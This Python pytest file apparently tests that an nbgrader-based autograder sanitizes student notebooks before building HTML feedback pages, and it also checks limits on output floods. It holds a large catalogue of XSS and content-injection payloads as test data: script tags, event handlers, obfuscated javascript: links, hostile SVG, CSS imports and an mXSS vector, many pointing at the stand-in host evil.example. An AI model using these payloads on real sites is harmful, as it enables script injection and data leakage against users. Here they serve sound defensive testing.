"""Feedback pages are safe to open: a hostile student's notebook becomes a page that runs nothing and loads nothing.

A tiny course (one assignment, one notebook, one student ``mallory``) gets a gradebook and an autograded
notebook written by hand — outputs and markdown carrying every vector below, each with a canary string —
and the real ``nbgrader generate_feedback`` (the course config: ``GetGrades``, ``HideHiddenTests``,
``SanitizeOutputs``, ``CSSHTMLHeaderPreprocessor``, ``FeedbackExporter``) turns it into the page a student
opens. Nothing is executed. The page is then read with the standard library's ``html.parser``.
"""

from __future__ import annotations

import base64
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from trainsys.autograde.feedback import SanitizeOutputs, sanitize_html, sanitize_svg
from trainsys.course import BIN, REPO, run_nbgrader

ASSIGNMENT, NOTEBOOK, STUDENT = "ps1", "hostile", "mallory"
EVIL = "evil.example"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
SVG_WITH_SCRIPT = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('CANARY-att-svg')\"/>").decode()

# Raw HTML a student can put in a markdown cell or in an HTML or markdown output ({k}: where it was put).
HOSTILE_HTML = {
    "script": "<script>alert('CANARY-{k}-script')</script>",
    "onerror": "<img src=x onerror=\"alert('CANARY-{k}-onerror')\">",
    "jslink": "<a href=\"javascript:alert('CANARY-{k}-jslink')\">click</a>",
    "jslink-case": "<a href=\" JaVaScRiPt:alert('CANARY-{k}-jscase')\">click</a>",
    "jslink-entity": "<a href=\"&#106;avascript:alert('CANARY-{k}-jsentity')\">click</a>",
    "jslink-tab": "<a href=\"jav&#x09;ascript:alert('CANARY-{k}-jstab')\">click</a>",
    "data-link": "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">CANARY-{k}-datalink</a>",
    "data-svg-img": "<img src=\"data:image/svg+xml;base64," + SVG_WITH_SCRIPT + "\" alt=\"datasvg\">",
    "iframe": "<iframe src=\"https://evil.example/CANARY-{k}-iframe\"></iframe>",
    "srcdoc": "<iframe srcdoc=\"<script>alert('CANARY-{k}-srcdoc')</script>\"></iframe>",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/CANARY-{k}-meta\">",
    "base": "<base href=\"https://evil.example/CANARY-{k}-base/\">",
    "link": "<link rel=\"stylesheet\" href=\"https://evil.example/CANARY-{k}-link.css\">",
    "style-url": "<style>body {{ background: url(http://evil.example/CANARY-{k}-cssurl.png) }}</style>",
    "style-import": "<style>@import url('https://evil.example/CANARY-{k}-import.css');</style>",
    "style-attr": "<div style=\"position: fixed; top: 0; background-image: url(https://evil.example/CANARY-{k}-styleattr)\">x</div>",
    "style-expression": "<div style=\"width: expression(alert('CANARY-{k}-expression'))\">x</div>",
    "object": "<object data=\"https://evil.example/CANARY-{k}-object\"></object>",
    "embed": "<embed src=\"https://evil.example/CANARY-{k}-embed\">",
    "form": "<form action=\"https://evil.example/CANARY-{k}-form\"><input name=p><button formaction=\"https://evil.example/CANARY-{k}-formaction\">go</button></form>",
    "svg-inline": "<svg onload=\"alert('CANARY-{k}-svgonload')\"><script>alert('CANARY-{k}-svgscript')</script></svg>",
    "remote-img": "<img src=\"https://evil.example/CANARY-{k}-remote.png\">",
    "protocol-relative": "<img src=\"//evil.example/CANARY-{k}-protorel.png\" srcset=\"//evil.example/CANARY-{k}-srcset.png 2x\">",
    "remote-link": "<a href=\"https://evil.example/CANARY-{k}-remotelink\">docs</a>",
    "details": "<details open ontoggle=\"alert('CANARY-{k}-ontoggle')\"><summary>s</summary></details>",
    "video": "<video poster=\"https://evil.example/CANARY-{k}-poster.png\"><source src=\"https://evil.example/v.mp4\"></video>",
    "pinned-class": "<div class=\"navbar-fixed-top modal\">CANARY-{k}-pinned</div>",
    # last: its unclosed <style> swallows whatever follows (in markdown and in HTML alike)
    "mxss": "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('CANARY-{k}-mxss')\">",
}
HOSTILE_MARKDOWN = """\
[click](javascript:alert('CANARY-md-mdjslink'))
![remote](https://evil.example/CANARY-md-mdimg.png)
<https://evil.example/CANARY-md-autolink>
[ref][r]

[r]: https://evil.example/CANARY-md-reflink
"""
LEGIT_MARKDOWN = """\
## Legit heading

Some **bold** text, inline math $x^2$ and a table:

| name | value |
|------|-------|
| LEGIT-MD-TABLE | 1 |

```python
print("LEGIT-MD-CODE")
```
"""
LEGIT_HTML = ("<table class='dataframe' border='1'><thead><tr><th>col</th></tr></thead>"
              "<tbody><tr><td style='color: red'>LEGIT-TABLE-CELL</td></tr></tbody></table>")
HOSTILE_SVG = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"
     onload="alert('CANARY-svg-onload')">
  <script>alert('CANARY-svg-script')</script>
  <style>rect { fill: url(https://evil.example/CANARY-svg-style) }</style>
  <defs><clipPath id="c"><rect width="5" height="5"/></clipPath></defs>
  <rect id="legit-rect" width="10" height="10" clip-path="url(#c)" style="fill: url(http://evil.example/CANARY-svg-fill)"/>
  <image href="https://evil.example/CANARY-svg-image.png" width="10" height="10"/>
  <use xlink:href="https://evil.example/CANARY-svg-use#x"/>
  <a xlink:href="javascript:alert('CANARY-svg-link')"><text x="1" y="9">LEGIT-SVG-TEXT</text></a>
  <foreignObject><iframe src="https://evil.example/CANARY-svg-foreign"></iframe></foreignObject>
  <animate attributeName="href" to="javascript:alert('CANARY-svg-animate')"/>
</svg>"""


def _html_snippets(kind: str) -> str:
    return "\n".join(snippet.format(k=kind) for snippet in HOSTILE_HTML.values())


def _hostile_notebook() -> dict:
    answer_meta = {"nbgrader": {"grade": True, "solution": True, "grade_id": "answer", "points": 1,
                                "schema_version": 3, "locked": False}}
    written_meta = {"nbgrader": {"grade": True, "solution": True, "grade_id": "written", "points": 1,
                                 "schema_version": 3, "locked": False}}
    # markdown syntax first: an unclosed raw <style> (the mxss vector) swallows the rest of a cell
    markdown = new_markdown_cell(LEGIT_MARKDOWN + "\n" + HOSTILE_MARKDOWN
                                 + "\n![att](attachment:evil.svg) ![gone](attachment:missing.png)\n\n"
                                 + _html_snippets("md"))
    markdown["attachments"] = {"evil.svg": {"image/svg+xml": SVG_WITH_SCRIPT}}
    written = new_markdown_cell("My written answer LEGIT-WRITTEN " + _html_snippets("written"), metadata=written_meta)
    outputs = [
        new_output("stream", name="stdout", text="<script>alert('CANARY-stream')</script> LEGIT-STDOUT\n"),
        new_output("display_data", data={"text/html": LEGIT_HTML + _html_snippets("html"), "text/plain": "table"}),
        new_output("display_data", data={"text/html": "<b>CANARY-isolated</b><script>alert('CANARY-isolated')</script>"},
                   metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"application/javascript": "alert('CANARY-js')", "text/plain": "js"}),
        new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "CANARY-widget", "version_major": 2,
                                                         "version_minor": 0},
            "text/plain": "IntSlider(value=3)"}),
        new_output("display_data", data={"image/svg+xml": HOSTILE_SVG}),
        new_output("display_data", data={"text/markdown": HOSTILE_MARKDOWN + "\n\n" + _html_snippets("mdout")}),
        new_output("display_data", data={"image/png": PNG},
                   metadata={"image/png": {"width": "1 onerror=alert('CANARY-png-width')", "height": 1,
                                           "alt": "LEGIT-PNG"},
                             "filenames": {"image/png": "https://evil.example/CANARY-png-filename.png"}}),
        new_output("display_data", data={"application/x-evil": "CANARY-unknown"}),
        new_output("display_data", data={"text/latex": "\\href{javascript:alert('CANARY-latex')}{x}"}),
        new_output("execute_result", data={"text/plain": "42"}, execution_count=1),
        new_output("error", ename="ValueError", evalue="<img src=x onerror=\"alert('CANARY-evalue')\">",
                   traceback=["Traceback (most recent call last):", "  LEGIT-TRACEBACK-LINE in relu_forward",
                              "ValueError: <img src=x onerror=\"alert('CANARY-evalue')\">"]),
    ]
    code = new_code_cell("answer = 42", execution_count=1, outputs=outputs, metadata=answer_meta)
    code["metadata"]["tags"] = ["x\"><script>alert('CANARY-tag')</script>"]
    raw = new_raw_cell("<script>alert('CANARY-raw')</script><a href='https://evil.example/CANARY-raw'>r</a>")
    nb = new_notebook(cells=[markdown, written, code, raw], metadata={
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "language_info": {"name": "python"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {
            "state": {}, "version_major": 2, "version_minor": 0,
            "CANARY": "</script><script>alert('CANARY-widget-state')</script>"}},
    })
    # outside the schema, as a hand-edited submission may be (nbgrader only warns): the template prints these
    code["execution_count"] = "<script>alert('CANARY-count')</script>"
    outputs[10]["execution_count"] = "<img src=x onerror=alert('CANARY-count2')>"
    code["id"] = "x\" onmouseover=\"alert('CANARY-cell-id')"
    return nb


def _make_course(course: Path) -> None:
    from nbgrader.api import Gradebook

    path = os.environ.get("PATH", "")
    os.environ["PATH"] = f"{BIN}{os.pathsep}{path}"  # nbgrader's Gradebook runs `alembic`
    try:
        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
            gb.add_assignment(ASSIGNMENT)
            gb.add_notebook(NOTEBOOK, ASSIGNMENT)
            gb.add_grade_cell("answer", NOTEBOOK, ASSIGNMENT, max_score=1, cell_type="code")
            gb.add_solution_cell("answer", NOTEBOOK, ASSIGNMENT)
            gb.add_grade_cell("written", NOTEBOOK, ASSIGNMENT, max_score=1, cell_type="markdown")
            gb.add_solution_cell("written", NOTEBOOK, ASSIGNMENT)
            gb.add_student(STUDENT)
            gb.add_submission(ASSIGNMENT, STUDENT)
            comment = gb.find_comment("answer", NOTEBOOK, ASSIGNMENT, STUDENT)
            comment.manual_comment = ("LEGIT-COMMENT, see [the docs](https://evil.example/CANARY-comment-link) "
                                      "<script>alert('CANARY-comment')</script>")
            gb.db.commit()
    finally:
        os.environ["PATH"] = path
    target = course / "autograded" / STUDENT / ASSIGNMENT
    target.mkdir(parents=True)
    (target / f"{NOTEBOOK}.ipynb").write_text(json.dumps(_hostile_notebook(), indent=1))


class Page(HTMLParser):
    """Every element with its attributes, the text of script and style elements, and the page's text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self.styles: list[str] = []
        self.text: list[str] = []
        self._in: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag in ("script", "style"):
            self._in = tag
            (self.scripts if tag == "script" else self.styles).append("")

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in == "script":
            self.scripts[-1] += data
        elif self._in == "style":
            self.styles[-1] += data
        else:
            self.text.append(data)

    def attribute_values(self):
        for tag, attrs in self.elements:
            for name, value in attrs.items():
                yield tag, name, value


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Page]:
    course = tmp_path_factory.mktemp("feedback-course")
    _make_course(course)
    run_nbgrader(course, "generate_feedback", ASSIGNMENT, "--force", timeout=300)
    html = (course / "feedback" / STUDENT / ASSIGNMENT / f"{NOTEBOOK}.html").read_text()
    return html, Page(html)


def _squeeze(value: str) -> str:
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


CSS_URL = re.compile(r"url\(\s*(['\"]?)(.*?)\1\s*\)", re.IGNORECASE | re.DOTALL)
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href",
                  "cite", "ping", "longdesc", "manifest", "codebase", "srcdoc"}


def _check_css(css: str, where: str) -> None:
    assert "@import" not in css.lower(), f"{where}: @import"
    for match in CSS_URL.finditer(css):
        target = _squeeze(match.group(2))
        assert target.startswith("data:") or target.startswith("#"), f"{where}: url({target}) loads from elsewhere"


# ---------------------------------------------------------------------------------------------------------
# The page generate_feedback writes
# ---------------------------------------------------------------------------------------------------------

def test_feedback_page_runs_no_script(page) -> None:
    html, parsed = page
    canaries = [s for s in parsed.scripts if "CANARY" in s]
    assert not canaries, f"student script in the page: {canaries[:3]}"
    assert not parsed.scripts, "the feedback page should contain no <script> at all (not even MathJax)"
    assert "mathjax" not in html.lower()


def test_feedback_page_has_no_event_handlers_or_script_urls(page) -> None:
    _, parsed = page
    for tag, name, value in parsed.attribute_values():
        assert not name.lower().startswith("on"), f"<{tag} {name}={value!r}>"
        squeezed = _squeeze(value)
        for scheme in ("javascript:", "vbscript:", "data:text", "expression("):
            assert scheme not in squeezed, f"<{tag} {name}={value!r}>"


def test_feedback_page_has_no_frames_forms_objects_or_refresh(page) -> None:
    _, parsed = page
    tags = {tag for tag, _ in parsed.elements}
    for banned in ("iframe", "frame", "object", "embed", "applet", "base", "link", "form", "input", "button",
                   "svg", "math", "video", "source"):
        assert banned not in tags, f"<{banned}> in the feedback page"
    for tag, attrs in parsed.elements:
        if tag == "meta":
            assert "http-equiv" not in attrs, f"<meta {attrs}>"


def test_feedback_page_loads_nothing_from_elsewhere(page) -> None:
    html, parsed = page
    for tag, name, value in parsed.attribute_values():
        if name in URL_ATTRIBUTES:
            assert value.startswith(("#", "data:image/")), f"<{tag} {name}={value!r}> points outside the page"
        assert EVIL not in value and "http:" not in value and "https:" not in value, f"<{tag} {name}={value!r}>"
        if name == "style":
            _check_css(value, f"<{tag} style>")
    for css in parsed.styles:
        assert EVIL not in css
        _check_css(css, "<style>")
    for match in re.finditer(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]{2,}", " ".join(parsed.styles)):
        pytest.fail(f"URL in the page's CSS: {match.group(0)}")
    assert not parsed.scripts and "@import" not in html


def test_feedback_images_are_inline_and_svg_is_clean(page) -> None:
    _, parsed = page
    sources = [attrs.get("src", "") for tag, attrs in parsed.elements if tag == "img"]
    assert any(s.startswith("data:image/png;base64,") for s in sources), "the PNG output is gone"
    for tag, name, value in parsed.attribute_values():
        if "data:" in value:
            assert tag == "img" and name == "src", f"<{tag} {name}=data:…>"
            assert re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,", value), value[:60]
    svgs = [base64.b64decode(s.split(",", 1)[1]).decode() for s in sources if s.startswith("data:image/svg+xml")]
    assert len(svgs) == 1, "the SVG output should still be shown (as an image)"
    svg = Page(svgs[0])
    assert "LEGIT-SVG-TEXT" in "".join(svg.text) and ("rect", "legit-rect") in [(t, a.get("id")) for t, a in svg.elements]
    assert not svg.scripts and not svg.styles
    assert {t for t, _ in svg.elements} <= {"svg", "defs", "clippath", "rect", "a", "text", "use"}
    for tag, name, value in svg.attribute_values():
        assert not name.startswith("on") and "CANARY" not in value and EVIL not in value, f"svg <{tag} {name}={value!r}>"
        if name in ("href", "xlink:href"):
            assert value.startswith("#"), f"svg <{tag} {name}={value!r}>"
        if "url(" in value:
            assert re.fullmatch(r"url\(#[\w-]+\)", value), f"svg <{tag} {name}={value!r}>"


def test_student_canaries_reach_no_attribute_style_or_script(page) -> None:
    _, parsed = page
    for tag, name, value in parsed.attribute_values():
        assert "CANARY" not in value, f"<{tag} {name}={value!r}>"
    assert not any("CANARY" in css for css in parsed.styles)
    assert not any("CANARY" in script for script in parsed.scripts)
    text = "".join(parsed.text)
    # escaped student text is still shown as text: a stream and an exception message
    assert "<script>alert('CANARY-stream')</script>" in text
    assert "ValueError: <img src=x onerror=\"alert('CANARY-evalue')\">" in text
    # content the mxss vector follows is all there (it comes last), minus what would pin it over the page
    assert "CANARY-html-pinned" in text and "CANARY-md-pinned" in text
    classes = " ".join(attrs.get("class", "") for _, attrs in parsed.elements)
    assert "navbar-fixed-top" not in classes and "modal" not in classes


def test_feedback_keeps_tracebacks_tables_images_markdown_and_notices(page) -> None:
    _, parsed = page
    text = "".join(parsed.text)
    for legit in ("LEGIT-TRACEBACK-LINE", "LEGIT-STDOUT", "LEGIT-TABLE-CELL", "LEGIT-MD-TABLE", "LEGIT-MD-CODE",
                  "Legit heading", "LEGIT-WRITTEN", "LEGIT-COMMENT", "IntSlider(value=3)", "$x^2$",
                  "Output not shown (application/javascript)",
                  "Output not shown (application/vnd.jupyter.widget-view+json)",
                  "Output not shown (application/x-evil)", "Score: 0.0 / 2.0"):
        assert legit in text, f"{legit!r} is missing from the feedback"
    tags = [tag for tag, _ in parsed.elements]
    for tag in ("table", "th", "td", "h2", "pre", "strong", "img"):
        assert tag in tags, f"no <{tag}> left in the feedback"
    widths = [attrs.get("width") for tag, attrs in parsed.elements if tag == "img" and attrs.get("alt") == "LEGIT-PNG"]
    assert widths == [None], "a non-numeric image width must be dropped, the image kept"


# ---------------------------------------------------------------------------------------------------------
# The sanitizer on its own, vector by vector (fast, precise failure messages)
# ---------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(HOSTILE_HTML))
def test_sanitize_html_removes_each_vector(name: str) -> None:
    cleaned = sanitize_html(HOSTILE_HTML[name].format(k="unit"))
    parsed = Page(cleaned)
    assert not parsed.scripts and not parsed.styles, cleaned
    for tag, attr, value in parsed.attribute_values():
        assert not attr.startswith("on"), cleaned
        assert attr not in ("srcset", "action", "formaction", "data", "poster", "srcdoc"), cleaned
        if attr in ("href", "src"):
            assert value.startswith("#") or re.match(r"data:image/(png|jpeg|gif);base64,", value), cleaned
        assert "CANARY" not in value and EVIL not in value and "url(" not in value, cleaned
    assert not {t for t, _ in parsed.elements} & {"iframe", "object", "embed", "meta", "base", "link", "form",
                                                   "input", "svg", "math", "video", "source"}, cleaned


def test_sanitize_keeps_ordinary_formatting() -> None:
    html = (LEGIT_HTML + "<h3 id='h'>Head<a class='anchor-link' href='#h'>¶</a></h3><p><em>e</em> <code>c</code></p>"
            f"<img src='data:image/png;base64,{PNG}' alt='a' width='3'><ul><li>i</li></ul>")
    cleaned = sanitize_html(html)
    for kept in ("<table", "<th>col</th>", "LEGIT-TABLE-CELL", 'style="color:red"', 'href="#h"', "<em>e</em>",
                 "<code>c</code>", f"data:image/png;base64,{PNG}", 'width="3"', "<li>i</li>", 'class="dataframe"'):
        assert kept in cleaned, f"{kept!r} lost: {cleaned}"


def test_sanitize_svg_keeps_the_drawing_only() -> None:
    svg = sanitize_svg(HOSTILE_SVG)
    assert svg.startswith("<svg") and "LEGIT-SVG-TEXT" in svg and 'clip-path="url(#c)"' in svg
    for bad in ("CANARY", EVIL, "script", "onload", "foreignObject", "iframe", "animate", "javascript"):
        assert bad not in svg, f"{bad!r} survived: {svg}"


def test_sanitize_outputs_drops_active_outputs_with_a_notice() -> None:
    pre = SanitizeOutputs()
    js = pre.sanitize_output(new_output("display_data", data={"application/javascript": "alert(1)"}))
    assert [o.output_type for o in js] == ["stream"] and "not shown" in js[0].text
    isolated = pre.sanitize_output(new_output("display_data", data={"text/html": "<b>x</b>"},
                                              metadata={"text/html": {"isolated": True}}))
    assert isolated[0].metadata == {} and isolated[0].data == {"text/html": "<b>x</b>"}


def test_course_config_wires_the_sanitizer_into_generate_feedback() -> None:
    config = (REPO / "autograder" / "nbgrader_config.py").read_text()
    assert re.search(r"c\.GenerateFeedback\.preprocessors = \[[^\]]*SanitizeOutputs", config)
    assert "c.GenerateFeedback.exporter_class = FeedbackExporter" in config


# --- floods: bytes, not lines ------------------------------------------------------------------------------
def test_clip_text_keeps_both_ends_within_the_byte_limit() -> None:
    from trainsys.autograde.feedback import MAX_TEXT_BYTES, clip_text

    assert clip_text("short") == "short"
    for char in ("x", "é", "€", "😀"):  # 1 to 4 UTF-8 bytes
        text = "START" + char * (3 * MAX_TEXT_BYTES) + "END"
        clipped = clip_text(text)
        assert clipped.startswith("START") and clipped.endswith("END")
        assert "characters not shown" in clipped
        assert len(clipped.encode()) <= MAX_TEXT_BYTES + 200, (char, len(clipped.encode()))


def test_a_20_mb_exception_and_many_prints_leave_bounded_outputs() -> None:
    from trainsys.autograde.feedback import MAX_CELL_OUTPUT_BYTES, MAX_TEXT_BYTES, bound_outputs

    message = "boom " * (4 * 2**20)  # 20 MiB (the hostile class raises 300 MB through the real command)
    error = new_output("error", ename="ValueError", evalue=message,
                       traceback=["Traceback (most recent call last)", f"\x1b[31mValueError\x1b[0m: {message}"])
    prints = [NotebookNode(output_type="stream", name="stdout", text=f"step {i}\n") for i in range(20_000)]
    kept = bound_outputs([*prints, error, new_output("stream", name="stdout", text=message)])
    assert [o.output_type for o in kept] == ["stream", "error", "stream"]
    assert kept[0].text.startswith("step 0\n") and kept[0].text.endswith("step 19999\n")
    assert len(kept[1].evalue.encode()) <= MAX_TEXT_BYTES + 200
    assert sum(len(line) for line in kept[1].traceback) <= MAX_TEXT_BYTES + 200
    assert "characters not shown" in kept[1].evalue and "characters not shown" in kept[2].text
    many = bound_outputs([new_output("display_data", data={"text/plain": "y" * MAX_TEXT_BYTES}) for _ in range(200)])
    assert len(many) < 200 and "more output(s) not shown" in many[-1].text
    assert sum(len(o.get("data", {}).get("text/plain", "")) for o in many) <= MAX_CELL_OUTPUT_BYTES


def test_a_huge_image_is_replaced_by_a_note() -> None:
    from trainsys.autograde.feedback import MAX_IMAGE_BYTES, bound_outputs

    image = new_output("display_data", data={"image/png": "A" * (MAX_IMAGE_BYTES + 4)})
    (kept,) = bound_outputs([image])
    assert "image/png" not in kept.data and "over the" in kept.data["text/plain"]


def test_a_feedback_page_stays_under_its_limit_whatever_the_notebook_holds() -> None:
    """600 markdown cells of quotes (6 bytes each once escaped: twice the estimated growth), long code and
    outputs: the page is measured, cut, and still shows the graded cell and a note."""
    from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor

    from trainsys.autograde.feedback import MAX_PAGE_BYTES, FeedbackExporter

    cells = [new_markdown_cell('"' * 5000) for _ in range(600)]
    cells.append(new_code_cell("x = 1  # " + "a+" * 40_000, outputs=[new_output("stream", name="stdout", text="<" * 10**6)]))
    graded = new_code_cell("assert x == 1", metadata={"nbgrader": {"grade": True, "grade_id": "tests", "points": 1,
                                                                   "solution": False, "locked": True}})
    cells.append(graded)
    exporter = FeedbackExporter()
    exporter.register_preprocessor(SanitizeOutputs(), enabled=True)
    exporter.register_preprocessor(CSSHTMLHeaderPreprocessor(), enabled=True)
    html, _ = exporter.from_notebook_node(new_notebook(cells=cells))
    assert len(html.encode()) <= MAX_PAGE_BYTES
    assert "cell(s) not shown: a feedback page shows at most" in html
    assert "reached its size limit" in html  # the graded cell kept its place


def test_prints_do_not_pile_up_in_the_executing_client() -> None:
    """The autograder's executor bounds a flooding cell's outputs as messages arrive (10 MB of prints in)."""
    from trainsys.autograde.feedback import MAX_CELL_OUTPUT_BYTES, MAX_TEXT_BYTES
    from trainsys.autograde.execute import SlicedPollExecute

    executor = SlicedPollExecute()
    executor.reset_execution_trackers()
    executor.clear_before_next_output = False  # set per cell by nbclient
    outs: list = []
    for step in range(1000):
        msg = {"msg_type": "stream", "parent_header": {"msg_id": "m"}, "header": {"msg_type": "stream"},
               "content": {"name": "stdout", "text": f"step {step} " + "x" * 10_000 + "\n"}}
        executor.output(outs, msg, None, 0)
    held = sum(len(o.text) for o in outs)
    assert held <= MAX_CELL_OUTPUT_BYTES + 64 * MAX_TEXT_BYTES, held  # at most 64 outputs arrive between bounds
    assert outs[0].text.startswith("step 0 ") and outs[-1].text.startswith("step 999 ")
